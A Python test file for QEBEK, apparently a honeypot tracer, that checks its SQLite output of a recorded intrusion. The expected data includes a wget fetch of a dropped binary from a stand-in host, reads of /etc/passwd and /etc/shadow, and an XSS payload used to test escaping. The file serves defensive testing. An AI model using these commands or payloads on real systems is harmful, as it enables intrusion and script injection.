#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""sqlite.py QEBEK MAKE_INTRUSION: the database output, read back with the sqlite3 shell."""
import json
import os
import subprocess
import sys
import tempfile

QEBEK, MAKE = sys.argv[1:]
BULK = 50000
SCRIPT = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
# As text of the guest is written: escape sequences and bytes that are no UTF-8 with their octal digits.
EVIL = '/root/evil\\033[31m\\n\\377\\\\' + SCRIPT


def expect(good, text):
    if not good:
        raise AssertionError(text)


def query(db, text):
    done = subprocess.run(['sqlite3', '-json', '-readonly', db, text], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          check=False)
    expect(done.returncode == 0, f'{text}: {done.stderr}')
    return json.loads(done.stdout or b'[]')


def same(db, text, want):
    got = [list(row.values()) for row in query(db, text)]
    expect(got == want, f'{text}: {got}, not {want}')


def read(trace, db, *more, status=0):
    done = subprocess.run([QEBEK, 'read', '--output', f'sqlite:{db}', *more, trace], stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, check=False, timeout=300)
    expect(done.returncode == status and done.stdout == '', f'status {done.returncode}: {done.stderr}')
    return done.stderr


def test_tables(path, trace):
    db = f'{path}/run.db'
    with open(db, 'w', encoding='ascii') as f:
        f.write('what was there before')
    read(trace, db)
    same(db, 'PRAGMA integrity_check', [['ok']])
    same(db, 'PRAGMA user_version', [[1]])
    expect(not os.path.exists(f'{db}-wal'), 'the log is still there')
    same(db, 'SELECT pid, ppid, parent, exe, exit FROM processes WHERE pid = 101', [[101, 100, 1, '/root/dropped', 3]])
    same(db, 'SELECT line, error FROM commands ORDER BY seq',
         [['-sh', None],
          ["wget 'http://198.51.100.7/a b' '" + SCRIPT.replace("'", "'\\\\''") + "'", 'ENOENT'],
          ["wget 'http://198.51.100.7/a b' '" + SCRIPT.replace("'", "'\\\\''") + "'", None],
          ["./dropped 'it'\\\\''s' '\\342\\200\\256' ''", None], ['nonsense', 'ENOENT'], ['nonsense', 'ENOENT']])
    same(db, 'SELECT action, address, port, scope, error FROM connections ORDER BY seq',
         [['accept', '203.0.113.9', 50022, 'public', None], ['connect', '198.51.100.7', 80, 'public', 'EINPROGRESS'],
          ['connect', '198.51.100.7', 80, 'public', None]])
    same(db, 'SELECT action, path, error FROM files ORDER BY seq',
         [['create', EVIL, None], ['create', '/root/dropped', None], ['read', '/etc/passwd', None], ['chmod', '/root/dropped', None],
          ['delete', '/root/dropped', None], ['delete', '/etc/shadow', 'EACCES']])
    same(db, 'SELECT id, remote, local, ended_ns > started_ns AS ended FROM sessions',
         [[1, '203.0.113.9:50022', '10.0.0.1:22', 1]])
    same(db, 'SELECT session, remote FROM processes WHERE pid = 101', [[1, '203.0.113.9:50022']])
    for table in 'commands', 'files':
        same(db, f'SELECT DISTINCT session, remote FROM {table}', [[1, '203.0.113.9:50022']])
    same(db, 'SELECT session, remote, terminal, line, end, hidden FROM typed',
         [[1, '203.0.113.9:50022', 'pts/0', 'whoami </script>\\342\\200\\256', 'entered', 0]])
    same(db, "SELECT kind, text FROM search WHERE search MATCH 'whoami'", [['typed', 'whoami </script>\\342\\200\\256']])
    same(db, "SELECT kind, text FROM events", [['signal', 'SIGINT'], ['log', "a module's line"]])
    same(db, "SELECT value FROM facts WHERE about = 'guest' AND key = 'release'", [['6.1 <b>']])


def test_calls(path, trace):
    """As many calls as the text output shows, with the same arguments, and in processes that add up."""
    db = f'{path}/run.db'
    read(trace, db)
    lines = subprocess.run([QEBEK, 'read', '-q', '-s', '4096', '--output', 'strace', trace], stdout=subprocess.PIPE,
                           text=True, check=True, errors='replace').stdout.splitlines()
    calls = [line for line in lines if ' = ' in line and '---' not in line]
    same(db, 'SELECT count(*) FROM calls', [[len(calls)]])
    same(db, 'SELECT sum(calls) FROM processes', [[len(calls)]])
    same(db, "SELECT count(*) FROM calls WHERE name = 'write' AND result = 64 AND duration_ns = 1000 AND "
         "args LIKE '1, \"xxxxx%' AND process = 3", [[BULK]])
    same(db, "SELECT end, args FROM calls WHERE name = 'exit_group'", [['noreturn', '3']])
    read(trace, db, '-e', 'trace=unlink', '-Z')
    same(db, 'SELECT name, error FROM calls', [['unlink', 'EACCES']])


def test_views_and_search(path, trace):
    db = f'{path}/run.db'
    read(trace, db)
    same(db, 'SELECT action, path FROM what_was_written', [['create', EVIL], ['create', '/root/dropped'], ['chmod', '/root/dropped'],
                                                             ['delete', '/root/dropped']])
    same(db, 'SELECT address, port, times, by FROM what_was_contacted', [['198.51.100.7', 80, 2, 'sh']])
    same(db, 'SELECT address, pid FROM who_came', [['203.0.113.9', 100]])
    expect(query(db, 'SELECT * FROM who_ran_what')[0]['line'] == '-sh', 'who_ran_what')
    expect(query(db, 'SELECT * FROM who_typed_what')[0]['pid'] == 101, 'who_typed_what')
    expect(query(db, 'SELECT * FROM failures')[0]['times'] == 3, 'failures')
    same(db, "SELECT count(*) FROM search WHERE search MATCH 'dropped'", [[2]])
    same(db, "SELECT kind, text FROM search WHERE search MATCH 'passwd'", [['file', '/etc/passwd']])


def test_document(path, trace):
    """Every query of the page works."""
    db = f'{path}/run.db'
    read(trace, db)
    page = os.path.join(os.path.dirname(__file__), '..', '..', '..', 'docs', 'outputs.md')
    with open(page, encoding='utf-8') as f:
        blocks = f.read().split('```sql\n')[1:]
    queries = [q for block in blocks for q in block.split('```')[0].split(';') if q.strip()]
    expect(len(queries) >= 10, f'{len(queries)} queries')
    for q in queries:
        query(db, q)


def test_wrong(path, trace):
    expect('sqlite:FILE' in read(trace, '-', status=2), 'standard output')
    expect(f'{path}/no/x' in read(trace, f'{path}/no/x', status=2), 'no such directory')


def test_disk_full(path, trace):
    """The database fails, once and loudly; the other output has everything."""
    small = f'{path}/small'
    os.mkdir(small)
    if subprocess.run(['mount', '-t', 'tmpfs', '-o', 'size=256k', 'none', small], stderr=subprocess.DEVNULL,
                      check=False).returncode != 0:
        print('# not root: a full disk is not tried')
        return
    try:
        said = read(trace, f'{small}/run.db', '--output', f'jsonl:{path}/all', status=1)
    finally:
        subprocess.run(['umount', small], check=True)
    expect(said.count('\n') == 1 and 'full' in said and 'left out' in said, said)
    with open(f'{path}/all', encoding='utf-8') as f:
        objects = [json.loads(line) for line in f]
    expect(sum(o['type'] == 'call' for o in objects) > BULK, 'calls are missing from the other output')
    expect(objects[-1]['counters']['failed_outputs'] == 1, 'not counted')


TESTS = {name[5:]: function for name, function in globals().items() if name.startswith('test_')}


def main():
    failed = 0
    with tempfile.TemporaryDirectory() as path:
        subprocess.run([MAKE, f'{path}/t', str(BULK)], check=True)
        for name, function in TESTS.items():
            try:
                function(path, f'{path}/t')
                print(f'ok {name}')
            except (AssertionError, KeyError, subprocess.SubprocessError) as error:
                failed += 1
                print(f'not ok {name}: {error}')
    return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
